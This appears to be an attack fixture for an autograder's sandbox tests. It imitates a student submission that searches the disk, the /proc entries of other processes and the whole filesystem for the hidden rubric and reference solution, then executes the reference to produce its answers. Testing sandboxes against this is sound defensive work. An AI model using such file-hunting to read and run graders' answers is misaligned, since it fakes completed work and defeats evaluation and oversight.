"""Attack (reading the answers): read the rubric and the reference implementation from disk.

The repository's layout is public (rubrics/recitation5.yaml, rubrics/recitation5_reference.py),
so a student tries the likely absolute paths (the repo, Gradescope's /autograder/source, home
folders), walks up from __file__ and the current directory, follows /proc/self/cwd and
/proc/<pid>/root of every visible process, and finally walks the whole filesystem (bounded).
If it finds the reference it runs it and answers with it. It implements nothing itself.

Expected: nothing readable (the rubric folder is hidden, Landlock allows only Python and the
submission); every part 0.
"""

import glob
import os
import time
import types

# Filled in by tests/test_attacks.py (defaults for grading this file by hand).
HOOKS = {"repo": "/work/main", "canary": "/tmp/grader-attack-canary", "submission_dir": "/tmp",
         "tcp_port": 47011, "udp_port": 47012, "marker": "atkmarker"}

_notes = []
_reference = None


def _parents(path):
    path = os.path.abspath(path)
    while True:
        yield path
        parent = os.path.dirname(path)
        if parent == path:
            return
        path = parent


def _candidates():
    roots = [HOOKS["repo"], "/work/main", "/autograder/source", "/autograder", "/grader", "/srv/grader",
             os.path.expanduser("~"), "/root", "/home"]
    roots += list(_parents(os.path.dirname(__file__))) + list(_parents(os.getcwd()))
    for link in glob.glob("/proc/*/cwd") + glob.glob("/proc/*/root"):
        try:
            roots += list(_parents(os.readlink(link)))
            roots.append(link)
        except OSError:
            pass
    seen = set()
    for root in roots:
        for sub in ("rubrics", ".", "grader/rubrics", "source/rubrics"):
            folder = os.path.normpath(os.path.join(root, sub))
            if folder not in seen:
                seen.add(folder)
                yield folder


def _walk_everything(budget_seconds=3.0, budget_entries=200_000):
    started, count = time.monotonic(), 0
    for top, dirs, files in os.walk("/", onerror=lambda e: None):
        dirs[:] = [d for d in dirs if not (top == "/" and d in ("proc", "sys", "dev"))]
        for name in files:
            count += 1
            if name.endswith("_reference.py") or name.endswith(".yaml"):
                yield os.path.join(top, name)
        if count > budget_entries or time.monotonic() - started > budget_seconds:
            return


def _read(path):
    try:
        with open(path, encoding="utf-8") as f:
            return f.read()
    except (OSError, UnicodeDecodeError):
        return None


def hunt():
    global _reference
    paths = []
    for folder in _candidates():
        paths += glob.glob(os.path.join(folder, "recitation5*")) + glob.glob(os.path.join(folder, "*_reference.py"))
    paths += list(_walk_everything())
    for path in dict.fromkeys(paths):
        text = _read(path)
        if text is None:
            continue
        if "def backward" in text and "def forward" in text and "reference" in text.lower():
            _notes.append(f"SUCCESS: read the reference {path}")
            module = types.ModuleType("stolen_reference")
            try:
                exec(compile(text, path, "exec"), module.__dict__)
                _reference = module
            except Exception as exc:
                _notes.append(f"could not run it: {exc!r}")
        elif path.endswith(".yaml") and "questions:" in text:
            _notes.append(f"SUCCESS: read a rubric {path}: {text[:120]!r}")


hunt()
print("\n".join(sorted(_notes, key=lambda n: not n.startswith("SUCCESS"))[:20]) or "read_rubric_files: found nothing")


def _answer(name, *args):
    return getattr(_reference, name)(*args) if _reference is not None else None


def forward(alpha, beta, x, y):
    return _answer("forward", alpha, beta, x, y)


def backward(alpha, beta, x, y):
    return _answer("backward", alpha, beta, x, y)


def chain_rule(dy_dx, dz_dy):
    return _answer("chain_rule", dy_dx, dz_dy)


def d_Ax_dx(A, x):
    return _answer("d_Ax_dx", A, x)


def linear_regression(X, y):
    return _answer("linear_regression", X, y)
